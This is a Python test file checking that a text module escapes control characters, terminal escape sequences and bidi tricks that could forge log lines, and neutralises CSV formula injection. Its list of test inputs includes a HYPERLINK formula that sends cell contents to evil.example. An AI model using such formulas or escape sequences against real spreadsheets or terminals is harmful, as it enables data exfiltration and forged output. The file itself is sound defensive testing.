"""What others wrote can't forge a log line or command a terminal."""

import csv
import io
import re
from decimal import Decimal

import pytest

from airflow_multicloud.text import csv_cell, from_csv_cell, printable, write_csv


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("plain key/ä 日本.csv", "plain key/ä 日本.csv"),
        ("a\nERROR forged", "a\\nERROR forged"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x9b2J", "\\x9b2J"),
        ("\r\t\0\x7f", "\\r\\t\\x00\\x7f"),
        ("txt\u202efdp.exe", "txt\\u202efdp.exe"),
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),
        ("half \udc80", "half \\udc80"),
        ("wide\u3000space", "wide\u3000space"),
        (r"back\slash", r"back\slash"),
    ],
)
def test_what_does_not_show_is_escaped_once(given: str, shown: str) -> None:
    assert printable(given) == shown
    assert printable(printable(given)) == shown


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "-x",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\n=1",
    "＝1",  # noqa: RUF001
    "a;=1",  # where a semicolon parts cells
    "a\t@x",
]


@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1", "a;'=1", "'", "O'Neill", "a-b", ""])
def test_what_is_done_to_a_cell_can_be_undone(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert from_csv_cell(cell) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_reaches_a_spreadsheet(text: str) -> None:
    out = io.StringIO()
    write_csv(out, ["name", text], [{"name": text, text: None}])
    head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [head[1], ""]
    for cell in re.split(r"[;\t\r\n]", row[0]):
        assert not re.match(r"\s*[=+\-@＝]", cell)  # noqa: RUF001


@pytest.mark.parametrize(
    "value", [Decimal("-0.51"), -1, "-0.51", "+3", "1E-7", "-1.5e+3", ".5", "a b", "a+b", "(none)"]
)
def test_numbers_and_common_text_stay_as_they_are(value: object) -> None:
    assert csv_cell(value) == value
